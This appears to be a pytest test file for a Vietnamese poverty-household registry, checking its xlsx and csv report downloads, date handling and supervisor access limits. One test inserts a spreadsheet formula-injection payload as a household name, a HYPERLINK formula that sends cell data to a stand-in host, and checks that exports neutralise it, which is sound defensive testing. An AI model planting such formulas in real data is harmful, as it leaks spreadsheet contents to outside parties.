"""The downloads: the plan's figures, the lists of poor and near-poor households and the review
summary, as xlsx and csv, with Vietnamese column headers, for the supervisor's area only."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from domain.values import CATEGORY_KEYS
from projections.figures import FIGURES
from tests.api.client import HEAD, Api, Household, registration, survey
from tests.web.conftest import PASSWORD, Browser
from web.ui import formats

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_rows(response: httpx.Response) -> list[tuple[Any, ...]]:
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet is not None
    return list(sheet.iter_rows(values_only=True))


def csv_rows(response: httpx.Response, separator: str = ";") -> list[list[str]]:
    """The rows of a CSV download: ";" between cells for a Vietnamese reader, "," in English."""
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(StringIO(response.content.decode("utf-8-sig")), delimiter=separator))


def near_poor_household(api: Api) -> None:
    """Income under the line with one deprivation: near-poor, in Hùng Vương (district 303)."""
    body = registration(household_code="HV-0001", commune_code="11299")
    household_id = api.created("/api/households", body, who="neighbour")["id"]
    path = f"/api/households/{household_id}"
    api.created(path + "/surveys", survey(deprived=1, survey_id="S-HV"), who="neighbour")
    decision = {"survey_id": "S-HV", "decision_ref": "16/QĐ", "effective_date": "2022-12-20"}
    api.created(path + "/classifications", decision, who="neighbour")


def test_the_list_of_poor_households_downloads_as_an_xlsx_file(
    pages: Browser, api: Api, poor_household: Household
) -> None:
    near_poor_household(api)
    pages.sign_in("supervisor")

    response = pages.get("/reports/poor.xlsx")

    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"].startswith("attachment;")
    assert xlsx_rows(response) == [
        ("Mã hộ", "Chủ hộ", "Xã/phường", "Thôn/tổ dân phố", "Xếp loại từ ngày"),
        # Today's commune: Phường Quán Toan went wholly into Phường Hồng An on 2025-07-01.
        ("QT-0001", "Nguyễn Văn An", "Phường Hồng An", "Tổ dân phố 3", datetime(2022, 12, 20)),
    ]


def test_the_list_of_near_poor_households_as_csv_names_its_columns_in_vietnamese(
    pages: Browser, api: Api, poor_household: Household
) -> None:
    near_poor_household(api)
    pages.sign_in("supervisor")

    response = pages.get("/reports/near-poor.csv", area="303")

    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    # The district ended on 2025-07-01: its list is that of its last day, in its communes then.
    assert 'filename="near-poor-303-2025-06-30.csv"' in response.headers["content-disposition"]
    assert csv_rows(response) == [
        ["Mã hộ", "Chủ hộ", "Xã/phường", "Thôn/tổ dân phố", "Xếp loại từ ngày"],
        ["HV-0001", "Nguyễn Văn An", "Phường Hùng Vương", "Tổ dân phố 3", "20/12/2022"],
    ]


def escape_in_2023(api: Api, household: Household) -> None:
    """The 2023 review finds the household above the line: it escapes on 2023-12-20."""
    path = f"/api/households/{household.id}"
    body = survey(income=5_000_000, deprived=0, survey_id="S-2023", effective_date="2023-10-01")
    api.created(path + "/surveys", body)
    decision = {"survey_id": "S-2023", "decision_ref": "20/QĐ", "effective_date": "2023-12-20"}
    api.created(path + "/classifications", decision)


def test_the_list_of_poor_households_is_the_list_of_the_chosen_date(
    pages: Browser, api: Api, poor_household: Household
) -> None:
    escape_in_2023(api, poor_household)
    pages.sign_in("supervisor")

    then = pages.get("/reports/poor.csv", as_of="2023-06-30")
    now = pages.get("/reports/poor.csv")

    assert 'filename="poor-31-2023-06-30.csv"' in then.headers["content-disposition"]
    assert csv_rows(then)[1:] == [
        ["QT-0001", "Nguyễn Văn An", "Phường Quán Toan", "Tổ dân phố 3", "20/12/2022"]
    ]
    assert csv_rows(now)[1:] == []


def test_the_list_of_poor_households_as_known_at_an_instant_leaves_out_what_came_later(
    pages: Browser, api: Api, poor_household: Household
) -> None:
    before_the_escape = datetime.now(UTC).isoformat()
    escape_in_2023(api, poor_household)
    pages.sign_in("supervisor")

    known_then = pages.get("/reports/poor.csv", as_of="2024-06-30", known_at=before_the_escape)
    known_now = pages.get("/reports/poor.csv", as_of="2024-06-30")

    assert [row[0] for row in csv_rows(known_then)[1:]] == ["QT-0001"]
    assert csv_rows(known_now)[1:] == []


def test_the_figures_download_holds_every_figure_as_of_the_date(
    pages: Browser, poor_household: Household
) -> None:
    pages.sign_in("supervisor")

    rows = xlsx_rows(pages.get("/reports/figures.xlsx", area="11296", as_of="2023-06-30"))

    assert rows[0][:3] == ("Chỉ tiêu", "Mã", "Giá trị")
    assert [row[1] for row in rows[1:]] == [figure.id for figure in FIGURES]
    assert rows[1] == ("Hộ nghèo", "poor", 1, 1, None, None, "hộ")


def test_the_figures_as_csv_leave_a_missing_value_empty(
    pages: Browser, poor_household: Household
) -> None:
    pages.sign_in("supervisor")

    rows = csv_rows(pages.get("/reports/figures.csv", area="11296"))

    rate = next(row for row in rows if row[1] == "poverty_rate")
    assert rate[2:5] == ["", "1", ""]  # no household total recorded: no rate


def test_the_review_summary_counts_households_by_status_in_each_sub_area(
    pages: Browser, api: Api, poor_household: Household
) -> None:
    near_poor_household(api)
    api.created("/api/households", registration(household_code="QT-0002"))
    pages.sign_in("supervisor")

    rows = csv_rows(pages.get("/reports/summary.csv", area="303"))

    assert rows[0] == [
        "Địa bàn", "Hộ nghèo", "Hộ cận nghèo",
        "Hộ làm nông, lâm, ngư, diêm nghiệp có mức sống trung bình", "Hộ không nghèo",
        "Chưa xếp loại", "Tổng số",
    ]  # fmt: skip
    assert ["Phường Quán Toan", "1", "0", "0", "0", "1", "2"] in rows
    assert ["Phường Hùng Vương", "0", "1", "0", "0", "0", "1"] in rows
    assert rows[-1] == ["Tổng cộng: Quận Hồng Bàng", "1", "1", "0", "0", "1", "3"]


def test_a_district_supervisor_downloads_nothing_from_another_district(
    pages: Browser, poor_household: Household
) -> None:
    pages.api.system.accounts.add_user("supervisor_305", "supervisor", "305", password=PASSWORD)
    pages.sign_in("supervisor_305")

    lists = [pages.get(f"/reports/{name}") for name in ("poor.csv", "poor.xlsx", "summary.csv")]

    assert all(response.status_code == 200 for response in lists)
    assert not any("QT-0001" in response.content.decode("utf-8", "replace") for response in lists)
    assert "Phường Quán Toan" not in lists[2].content.decode("utf-8-sig")
    assert pages.get("/reports/poor.csv", area="303").status_code == 404


def test_the_reports_page_lists_every_download_for_the_chosen_area(pages: Browser) -> None:
    pages.sign_in("supervisor")

    page = pages.get("/reports", area="305", as_of="2025-12-31")

    for name in ("figures", "poor", "near-poor", "summary"):
        for kind in ("xlsx", "csv"):
            assert f'href="/reports/{name}.{kind}?area=305&amp;as_of=2025-12-31"' in page.text
    for name in ("review-form", "programme-results"):
        assert f'href="/reports/{name}.xlsx?area=305&amp;as_of=2025-12-31"' in page.text


@pytest.mark.parametrize("path", ["/reports", "/reports/poor.csv"])
def test_only_a_supervisor_may_download(pages: Browser, path: str) -> None:
    pages.sign_in("auditor")

    assert pages.get(path).status_code == 403


def test_an_unknown_download_is_not_found(pages: Browser) -> None:
    pages.sign_in("supervisor")

    assert pages.get("/reports/everyone.csv").status_code == 404
    assert pages.get("/reports/poor.pdf").status_code == 404


def test_the_headers_follow_the_readers_language(pages: Browser, poor_household: Household) -> None:
    pages.sign_in("supervisor")
    pages.get("/language/en")

    rows = csv_rows(pages.get("/reports/poor.csv"), separator=",")

    assert rows[0] == ["Household code", "Head of household", "Commune", "Village", "Status since"]


def test_a_commune_that_moved_district_is_not_listed_for_its_former_district_after_the_move(
    pages: Browser, api: Api
) -> None:
    """Commune 11587 moved from district 312 to district 303 on 2025-01-01: a supervisor of
    312 gets no list of its households as of a date after the move, and no summary, which
    counts households as they are today, whatever the date."""
    body = registration(household_code="MV-0001", commune_code="11587", effective_date="2025-03-01")
    household_id = api.created("/api/households", body, who="district_caseworker")["id"]
    path = f"/api/households/{household_id}"
    api.created(path + "/surveys", survey(survey_id="S-M", kind="REGULAR",
                effective_date="2025-05-02"), who="district_caseworker")  # fmt: skip
    decision = {"survey_id": "S-M", "decision_ref": "8/QĐ-UBND", "effective_date": "2025-06-20"}
    api.created(path + "/classifications", decision, who="district_caseworker")
    pages.api.system.accounts.add_user("supervisor_312", "supervisor", "312", password=PASSWORD)
    pages.sign_in("supervisor_312")

    answers = [
        pages.get(f"/reports/{name}", area="11587", as_of=day)
        for name, day in [
            ("poor.csv", "2025-06-30"), ("near-poor.xlsx", "2025-06-30"),
            ("summary.csv", "2024-06-01"),
        ]
    ]  # fmt: skip

    assert [response.status_code for response in answers] == [404, 404, 404]
    assert all("MV-0001" not in response.text for response in answers)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_name_that_looks_like_a_formula_is_downloaded_as_plain_text(
    pages: Browser, api: Api, kind: str
) -> None:
    head = {**HEAD, "full_name": '=HYPERLINK("http://evil.example/?x="&A1,"Mở")'}
    body = registration(household_code="=1+1", members=[head])
    household_id = api.created("/api/households", body)["id"]
    path = f"/api/households/{household_id}"
    api.created(path + "/surveys", survey(survey_id="S-F"))
    api.created(
        path + "/classifications",
        {"survey_id": "S-F", "decision_ref": "9/QĐ-UBND", "effective_date": "2022-12-20"},
    )
    pages.sign_in("supervisor")

    response = pages.get(f"/reports/poor.{kind}")

    if kind == "xlsx":
        sheet = load_workbook(BytesIO(response.content)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row[:2]]
        assert [cell.data_type for cell in cells] == ["s", "s"]
        assert cells[0].value == "=1+1"
    else:
        assert csv_rows(response)[1][:2] == ["'=1+1", "'" + head["full_name"]]


def known_before_the_escape(
    pages: Browser, api: Api, household: Household, form: str
) -> tuple[httpx.Response, date, datetime]:
    """The household escapes in 2023; the supervisor downloads `form` for district 303 as of
    30 June 2024, as known before the escape was recorded: the answer, the date, the instant."""
    known_at = datetime.now(UTC)
    escape_in_2023(api, household)
    pages.sign_in("supervisor")
    as_of = date(2024, 6, 30)
    answer = pages.get(
        f"/reports/{form}.xlsx", area="303", as_of=as_of.isoformat(), known_at=known_at.isoformat()
    )
    return answer, as_of, known_at


def test_the_review_form_holds_the_dashboards_figures_of_each_sub_area_and_the_whole(
    pages: Browser, api: Api, poor_household: Household
) -> None:
    near_poor_household(api)
    answer, as_of, known_at = known_before_the_escape(pages, api, poor_household, "review-form")

    rows = xlsx_rows(answer)
    assert rows[3][0] == "TỔNG HỢP KẾT QUẢ RÀ SOÁT HỘ NGHÈO, HỘ CẬN NGHÈO"
    body = rows[7 : next(i for i, row in enumerate(rows) if i > 7 and row[0] is None)]
    table = {row[0]: row[1:] for row in body}
    indicators = pages.api.system.indicators
    for code, name in pages.api.system.areas.sub_areas("303", as_of):
        assert table[name] == expected(indicators.figures(code, as_of, known_at))
    whole = indicators.figures("303", as_of, known_at)
    assert table["Tổng cộng: Quận Hồng Bàng"] == expected(whole)
    assert (whole["poor"].numerator, whole["near_poor"].numerator) == (1, 1)
    assert (whole["poor_persons"].numerator, whole["near_poor_persons"].numerator) == (3, 3)


def test_the_review_form_counts_a_district_of_wards_wholly_as_urban(
    pages: Browser, api: Api, poor_household: Household
) -> None:
    near_poor_household(api)
    pages.sign_in("supervisor")

    answer = pages.get("/reports/review-form.xlsx", area="303", as_of="2023-06-30")

    table = {row[0]: row[1:] for row in xlsx_rows(answer)}
    urban = table["Trong đó: khu vực thành thị"]
    assert urban[1:] == table["Tổng cộng: Quận Hồng Bàng"][1:]
    assert urban[1] == 1  # the poor household
    assert "Trong đó: khu vực nông thôn" not in table


@pytest.mark.parametrize(
    ("sheet", "family", "named"),
    [("Nguyên nhân", "cause", "CAPITAL"), ("Nhu cầu", "need", "CREDIT")],
)
def test_the_review_forms_causes_and_needs_count_the_poor_and_near_poor_whose_survey_named_them(
    pages: Browser, api: Api, poor_household: Household, sheet: str, family: str, named: str
) -> None:
    near_poor_household(api)
    pages.sign_in("supervisor")

    answer = pages.get("/reports/review-form.xlsx", area="303", as_of="2023-06-30")

    rows = list(load_workbook(BytesIO(answer.content))[sheet].iter_rows(values_only=True))
    header = next(row for row in rows if row[0] == "Địa bàn")
    total = next(row for row in rows if str(row[0]).startswith("Tổng cộng"))
    counted = {name: value for name, value in zip(header, total, strict=True) if value}
    term = formats.term(named, "vi")
    assert counted == {
        "Địa bàn": "Tổng cộng: Quận Hồng Bàng",
        f"Hộ nghèo: {term}": 1,
        f"Hộ cận nghèo: {term}": 1,
    }
    figures = pages.api.system.indicators.figures("303", date(2023, 6, 30), None)
    assert figures[f"{family}.{named}"].breakdown == {"POOR": 1, "NEAR_POOR": 1}


def expected(figures: dict[str, Any]) -> tuple[Any, ...]:
    """The form's row of an area from the dashboard's figures: households, then the poor, their
    rate, members and categories, then the near-poor likewise."""
    row: list[Any] = [figures["poverty_rate"].denominator]
    for status, rate in (("poor", "poverty_rate"), ("near_poor", "near_poverty_rate")):
        row += [
            figures[status].numerator,
            figures[rate].value,
            figures[f"{status}_persons"].numerator,
        ]
        row += [(figures[status].breakdown or {}).get(key, 0) for key in CATEGORY_KEYS]
    return tuple(row)


def test_the_programme_results_form_holds_the_dashboards_figures_with_title_and_signature(
    pages: Browser, api: Api, poor_household: Household
) -> None:
    answer, as_of, known_at = known_before_the_escape(
        pages, api, poor_household, "programme-results"
    )

    book = load_workbook(BytesIO(answer.content))
    sheet = book.active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[3][0] == "KẾT QUẢ THỰC HIỆN CHƯƠNG TRÌNH MỤC TIÊU QUỐC GIA GIẢM NGHÈO BỀN VỮNG"
    assert rows[4][0] == "Quận Hồng Bàng, tính đến ngày 30/06/2024"
    assert formats.instant(known_at) in str(rows[5][0])
    figures = pages.api.system.indicators.figures("303", as_of, known_at)
    table = {row[1]: row[2:6] for row in rows[7:] if row[1] in figures}
    assert table == {
        key: (f.value, f.numerator, f.denominator, f.target) for key, f in figures.items()
    }
    assert table["poor"][1] == 1  # as known before its escape
    assert any(row and row[-2] == "TM. ỦY BAN NHÂN DÂN" for row in rows[7 + len(table) :])
    assert sheet.page_setup.orientation == "landscape"
